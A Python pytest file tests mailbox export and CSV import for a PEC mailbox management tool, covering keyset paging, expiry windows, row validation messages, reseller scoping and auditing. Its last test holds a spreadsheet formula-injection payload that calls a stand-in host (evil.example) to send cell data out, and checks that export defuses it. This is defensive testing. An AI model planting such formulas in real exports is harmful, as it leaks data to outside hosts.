"""Mailbox export (streamed, keyset pages) and all-or-nothing CSV import."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from sqlalchemy import func, select
from sqlmodel import Session

from pec_tui.db.engine import make_engine, upgrade
from pec_tui.db.models import AuditEvent, Holder, Mailbox
from pec_tui.demo import seeding
from pec_tui.domain.enums import HolderKind, Role
from pec_tui.domain.lifecycle import expiring_within
from pec_tui.domain.validation import ValidationError
from pec_tui.services import mailbox_io
from pec_tui.services.actor import SYSTEM, AccessDenied, Actor
from pec_tui.services.mailbox_io import (
    COLUMNS,
    ExpiryWindow,
    ImportRejected,
    export_mailboxes,
    import_mailboxes,
)

TODAY = date.today()
HEADER = ",".join(COLUMNS)
# Valid rows: (address, tax code, name, kind, e-mail) with a plan line appended.
MARIO = "mario.rossi@pec.it,RSSMRA85T10A562S,Mario Rossi,privato,mario@example.it"
ACME = "info@acmesrl.it,01234560017,Acme S.r.l.,azienda,amministrazione@acme.it"
COMUNE = "protocollo@comune.pec.it,80012345676,Comune di Prova,pubblica_amministrazione,p@comune.it"
PLAN = "STANDARD,2027-03-31,false,0,0,120,0"


def _csv(*rows: str) -> io.StringIO:
    return io.StringIO("\n".join((HEADER, *rows)) + "\n")


def _export(engine, actor=SYSTEM, fmt="csv", window=None, today=TODAY) -> str:
    out = io.StringIO()
    export_mailboxes(engine, actor, out, fmt, window, today)
    return out.getvalue()


def _counts(engine) -> tuple[int, int, int]:
    with Session(engine) as session:
        return tuple(
            session.execute(select(func.count()).select_from(model)).scalar_one()
            for model in (Mailbox, Holder, AuditEvent)
        )


@pytest.fixture
def seeded_sqlite(tmp_path):
    """A SQLite database with 600 demo mailboxes around today."""
    engine = make_engine(f"sqlite:///{tmp_path / 'seeded.db'}")
    upgrade(engine)
    seeding.seed_demo(engine, 600, 5, TODAY)
    yield engine
    engine.dispose()


# --- round trip ------------------------------------------------------------------------------


def test_export_import_export_gives_the_same_file(seeded_sqlite, engine):
    exported = _export(seeded_sqlite)
    assert exported.count("\n") == 601

    result = import_mailboxes(engine, SYSTEM, io.StringIO(exported), "demo.csv")

    assert result.mailboxes == 600
    with Session(seeded_sqlite) as session:
        holders = session.execute(select(func.count()).select_from(Holder)).scalar_one()
    assert result.holders_created == holders
    assert _export(engine) == exported


def test_json_export_has_the_csv_rows_typed(seeded_sqlite):
    rows = json.loads(_export(seeded_sqlite, fmt="json"))
    from_csv = list(csv.DictReader(io.StringIO(_export(seeded_sqlite))))
    assert len(rows) == len(from_csv) == 600
    assert list(rows[0]) == list(COLUMNS)
    for typed, text in zip(rows, from_csv, strict=True):
        assert isinstance(typed["auto_renew"], bool)
        assert isinstance(typed["mailbox_used_mb"], int)
        assert {
            k: str(v).lower() if isinstance(v, bool) else str(v) for k, v in typed.items()
        } == text


def test_an_empty_export_is_a_header_or_an_empty_array(engine):
    assert _export(engine) == HEADER + "\n"
    assert json.loads(_export(engine, fmt="json")) == []


def test_the_tax_code_is_the_partita_iva_of_businesses_and_the_codice_fiscale_otherwise():
    assert mailbox_io.holder_tax_code("azienda", "01234560017", "01234560017") == "01234560017"
    assert mailbox_io.holder_tax_code("ditta_individuale", "RSSMRA85T10A562S", "01234560017") == (
        "01234560017"
    )
    assert mailbox_io.holder_tax_code("privato", "RSSMRA85T10A562S", None) == "RSSMRA85T10A562S"
    assert mailbox_io.holder_tax_code("pubblica_amministrazione", "80012345676", "01234560017") == (
        "80012345676"
    )


# --- expiry windows and keyset pages -----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "months", "days"), [("3m", 3, None), ("90d", None, 90), (" 1M ", 1, None)]
)
def test_expiry_windows_in_months_or_days(text, months, days):
    window = ExpiryWindow.parse(text)
    first, last = window.bounds(TODAY)
    assert first == TODAY
    if months:
        assert (first, last) == expiring_within(TODAY, months)
    else:
        assert last == TODAY + timedelta(days=days)


@pytest.mark.parametrize("text", ["", "3", "m", "3 months", "-3m", "3w", "3.5m"])
def test_a_bad_expiry_window_says_what_is_expected(text):
    with pytest.raises(ValidationError, match="3m or 90d"):
        ExpiryWindow.parse(text)


def test_expiring_export_pages_through_ties_in_expiry_order(seeded_sqlite, monkeypatch):
    # Pages of 7 rows cut through runs of mailboxes sharing an expiry day.
    monkeypatch.setattr(mailbox_io, "EXPORT_PAGE_SIZE", 7)
    window = ExpiryWindow.parse("3m")
    first, last = window.bounds(TODAY)
    rows = list(csv.DictReader(io.StringIO(_export(seeded_sqlite, window=window))))
    with Session(seeded_sqlite) as session:
        expected = (
            session.execute(
                select(Mailbox.address)
                .where(Mailbox.expiry >= first, Mailbox.expiry <= last)
                .order_by(Mailbox.expiry, Mailbox.id)
            )
            .scalars()
            .all()
        )
    assert [row["address"] for row in rows] == expected
    assert len(expected) > 7 * 3
    assert mailbox_io.count_for_export(seeded_sqlite, SYSTEM, window, TODAY) == len(expected)


def test_unfiltered_export_pages_by_id(seeded_sqlite, monkeypatch):
    monkeypatch.setattr(mailbox_io, "EXPORT_PAGE_SIZE", 50)
    pages = []
    out = io.StringIO()
    count = export_mailboxes(seeded_sqlite, SYSTEM, out, progress=pages.append)
    assert count == 600
    assert pages == list(range(50, 601, 50))
    with Session(seeded_sqlite) as session:
        expected = session.execute(select(Mailbox.address).order_by(Mailbox.id)).scalars().all()
    assert [row["address"] for row in csv.DictReader(io.StringIO(out.getvalue()))] == expected


def test_a_reseller_exports_only_its_own_mailboxes(seeded_sqlite):
    reseller = Actor(name="shop", role=Role.RESELLER, reseller_id=2)
    rows = list(csv.DictReader(io.StringIO(_export(seeded_sqlite, actor=reseller))))
    with Session(seeded_sqlite) as session:
        own = set(
            session.execute(select(Mailbox.address).where(Mailbox.reseller_id == 2)).scalars()
        )
    assert rows and {row["address"] for row in rows} == own


# --- import: all or nothing ------------------------------------------------------------------


def test_a_file_with_four_bad_rows_is_refused_with_four_messages_and_nothing_changes(engine):
    import_mailboxes(engine, SYSTEM, _csv(f"{ACME},{PLAN}"))
    before = _counts(engine)
    bad = _csv(
        f"{MARIO},{PLAN}",
        "anna.bianchi@pec.it,BNCNNA80A41H501X,Anna Bianchi,privato,anna@example.it," + PLAN,
        f"{COMUNE},GOLD,2027-03-31,false,0,0,120,0",
        "luca.verdi@pec.it,VRDLCU75C12F205W,Luca Verdi,privato,luca@example.it,"
        "PRO,31/12/2026,true,0,0,10,0",
        "MARIO.ROSSI@pec.it,RSSMRA85T10A562S,Mario Rossi,privato,mario@example.it," + PLAN,
    )

    with pytest.raises(ImportRejected) as rejected:
        import_mailboxes(engine, SYSTEM, bad, "bad.csv")

    assert [str(problem) for problem in rejected.value.problems] == [
        "line 3: The codice fiscale BNCNNA80A41H501X is not valid: its last character (check "
        "character) does not match the others. Check it for typing errors.",
        "line 4: Unknown plan “GOLD”: expected STANDARD, PRO, PREMIUM.",
        "line 5: “31/12/2026” is not a valid expiry date: expected YYYY-MM-DD, e.g. 2027-03-31.",
        "line 6: The address mario.rossi@pec.it is already on line 2.",
    ]
    assert _counts(engine) == before


def test_every_problem_of_the_file_is_reported_by_line(engine):
    bad = _csv(
        "not-an-address,RSSMRA85T10A562S,Mario Rossi,privato,mario@example.it," + PLAN,
        "a@pec.it,RSSMRA85T10A562S,,impiegato,nope," + PLAN,
        "b@pec.it,RSSMRA85T10A562S,Mario Rossi,privato,m@example.it,STANDARD,2027-02-30,"
        "maybe,2,1,-5,x",
        "c@pec.it,01234560017,Mario Rossi,privato,m@example.it," + PLAN,
        "d@pec.it,RSSMRA85T10A562S,Comune,pubblica_amministrazione,m@example.it," + PLAN,
        "e@pec.it,RSSMRA85T10A562S,Mario Rossi,privato",
    )
    with pytest.raises(ImportRejected) as rejected:
        import_mailboxes(engine, SYSTEM, bad)
    by_line: dict[int, list[str]] = {}
    for problem in rejected.value.problems:
        by_line.setdefault(problem.line, []).append(problem.reason)
    assert "not a valid PEC address" in by_line[2][0]
    assert [reason.split(" ")[0] for reason in by_line[3]] == ["The", "Unknown", "“nope”"]
    assert len(by_line[4]) == 5  # date, boolean, extra GB of STANDARD, two used MB
    assert "auto_renew must be true or false" in " ".join(by_line[4])
    assert "personal codice fiscale" in by_line[5][0]
    assert "public administration has an 11-digit codice fiscale" in by_line[6][0]
    assert by_line[7] == ["Expected 12 values, found 4."]
    assert _counts(engine)[0] == 0


def test_an_address_already_in_the_database_is_refused(engine):
    import_mailboxes(engine, SYSTEM, _csv(f"{MARIO},{PLAN}"))
    with pytest.raises(ImportRejected) as rejected:
        import_mailboxes(engine, SYSTEM, _csv(f"{ACME},{PLAN}", f"{MARIO},{PLAN}"))
    assert [str(p) for p in rejected.value.problems] == [
        "line 3: The mailbox mario.rossi@pec.it already exists."
    ]
    assert _counts(engine)[0] == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "line 1: The file is empty"),
        ("address,plan\n", "line 1: Missing columns: holder_tax_code"),
        (HEADER + ",colour\n", "line 1: Unknown columns: colour"),
    ],
)
def test_a_file_without_the_right_header_is_refused(engine, content, message):
    with pytest.raises(ImportRejected) as rejected:
        import_mailboxes(engine, SYSTEM, io.StringIO(content))
    assert str(rejected.value.problems[0]).startswith(message)


def test_holders_are_found_by_tax_code_or_created_and_the_import_is_audited(engine):
    import_mailboxes(engine, SYSTEM, _csv(f"{MARIO},{PLAN}"))
    result = import_mailboxes(
        engine,
        SYSTEM,
        _csv(
            "mario.rossi2@pec.it,rssmra85t10a562s,M. Rossi,privato,x@example.it," + PLAN,
            f"{ACME},PRO,2027-01-10,TRUE,3,2,2500,100",
            "fatture@acmesrl.it,01234560017,Acme,azienda,a@acme.it," + PLAN,
            f"{COMUNE},{PLAN}",
            "studio@pec.it,RSSMRA85T10A562S,Studio Rossi,libero_professionista,s@example.it,"
            + PLAN,
        ),
        "more.csv",
    )
    assert result.mailboxes == 5
    assert result.holders_created == 2  # Acme and the Comune; Mario Rossi exists already
    with Session(engine) as session:
        owners = dict(
            session.execute(
                select(Mailbox.address, Holder.display_name).join(
                    Holder, Holder.id == Mailbox.holder_id
                )
            ).all()
        )
        acme = session.execute(
            select(Holder).where(Holder.partita_iva == "01234560017")
        ).scalar_one()
        pro = session.execute(
            select(Mailbox).where(Mailbox.address == "info@acmesrl.it")
        ).scalar_one()
        event = (
            session.execute(
                select(AuditEvent)
                .where(AuditEvent.action == "mailboxes.import")
                .order_by(AuditEvent.id.desc())
            )
            .scalars()
            .first()
        )
    assert owners["mario.rossi2@pec.it"] == owners["studio@pec.it"] == "Mario Rossi"
    assert owners["fatture@acmesrl.it"] == "Acme S.r.l."
    assert acme.kind == HolderKind.COMPANY.value and acme.codice_fiscale is None
    assert (pro.plan, pro.auto_renew, pro.extra_mailbox_gb, pro.extra_archive_gb) == (
        "PRO",
        True,
        3,
        2,
    )
    assert event.details == {"source": "more.csv", "mailboxes": 5, "holders_created": 2}


def test_semicolons_and_blank_lines_are_accepted(engine):
    content = (HEADER + "\n\n" + f"{MARIO},{PLAN}" + "\n").replace(",", ";")
    assert import_mailboxes(engine, SYSTEM, io.StringIO(content)).mailboxes == 1


def test_a_reseller_imports_into_its_own_book(engine):
    with Session(engine) as session:
        from pec_tui.db.models import Reseller

        shop = Reseller(name="Shop")
        session.add(shop)
        session.commit()
        shop_id = shop.id
    reseller = Actor(name="shop", role=Role.RESELLER, reseller_id=shop_id)
    import_mailboxes(engine, reseller, _csv(f"{MARIO},{PLAN}"))
    with Session(engine) as session:
        box = session.execute(select(Mailbox)).scalar_one()
        holder = session.get(Holder, box.holder_id)
    assert box.reseller_id == holder.reseller_id == shop_id


def test_a_kiosk_may_not_import(engine):
    kiosk = Actor(name="kiosk", role=Role.RESELLER, holder_id=1)
    with pytest.raises(AccessDenied):
        import_mailboxes(engine, kiosk, _csv(f"{MARIO},{PLAN}"))
    assert _counts(engine)[0] == 0


def test_a_holder_name_like_a_formula_is_defused_and_imports_back_unchanged(engine, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    row = f'mario.rossi@pec.it,RSSMRA85T10A562S,"{formula.replace(chr(34), chr(34) * 2)}",'
    import_mailboxes(engine, SYSTEM, _csv(f"{row}privato,mario@example.it,{PLAN}"))
    exported = _export(engine)
    (record,) = csv.DictReader(io.StringIO(exported))
    assert record["holder_name"] == "'" + formula  # a spreadsheet shows it as text
    other = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    upgrade(other)
    import_mailboxes(other, SYSTEM, io.StringIO(exported))
    with Session(other) as session:
        assert session.execute(select(Holder.display_name)).scalar_one() == formula
    assert _export(other) == exported
    other.dispose()
